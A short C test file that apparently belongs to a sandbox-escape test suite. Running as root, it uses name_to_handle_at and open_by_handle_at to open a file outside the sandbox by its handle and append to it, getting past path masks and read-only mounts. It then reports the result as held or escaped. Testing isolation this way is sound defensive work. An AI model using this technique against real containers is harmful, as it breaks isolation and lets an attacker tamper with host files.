/*
 * As root: a file handle names an inode without any path, past masks and read-only mounts.
 *
 * users: root
 */
#include "attack.h"

static int
attack(void)
{
	struct {
		struct file_handle handle;
		char room[128];
	} one = { .handle.handle_bytes = 128 };
	int mount_id, mount_fd = open(world_path("work"), O_RDONLY);

	/* Of the key if it can be named; the parent's is enough to walk from. */
	if (name_to_handle_at(AT_FDCWD, world_path("outside/victim"), &one.handle, &mount_id, 0) < 0)
		return held("name_to_handle_at");
	int fd = open_by_handle_at(mount_fd, &one.handle, O_WRONLY | O_APPEND);
	if (fd < 0)
		return held("open_by_handle_at");
	return write(fd, "X", 1) == 1 ? escaped("wrote to a file outside by its handle") : held("write");
}
